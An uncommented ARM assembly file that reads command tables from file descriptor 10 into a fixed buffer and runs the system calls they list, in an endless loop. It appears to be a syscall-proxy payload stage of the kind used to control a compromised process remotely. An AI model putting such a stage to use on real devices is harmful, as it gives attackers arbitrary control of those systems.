@ Registers: r8 = buffer, r9 = received bytes, r10 = call.
        .arch   armv7-a
        .arm
        .globl _start
_start:
        movw    r8, #0x1000
        movt    r8, #0x81
execute:
        add     r10, r8, #64
next:
        ldr     r7, [r10]
        cmp     r7, #0
        blt     receive
        ldr     r0, [r10, #4]
        ldr     r1, [r10, #8]
        ldr     r2, [r10, #12]
        ldr     r3, [r10, #16]
        ldr     r4, [r10, #20]
        svc     #0
        ldr     r6, [r10, #24]
        str     r0, [r6]
        ldr     r6, [r10, #28]
        str     r0, [r6]
        add     r10, r10, #32
        b       next
receive:
        mov     r9, #0
more:
        mov     r7, #3                  @ read
        mov     r0, #10
        add     r1, r8, r9
        rsb     r2, r9, #4096
        svc     #0
        cmp     r0, #0
        ble     pause
        add     r9, r9, r0
        cmp     r9, #4096
        blo     more
        b       execute
pause:
        mov     r7, #162                @ nanosleep
        add     r0, r8, #4096
        mov     r1, #0
        svc     #0
        b       receive
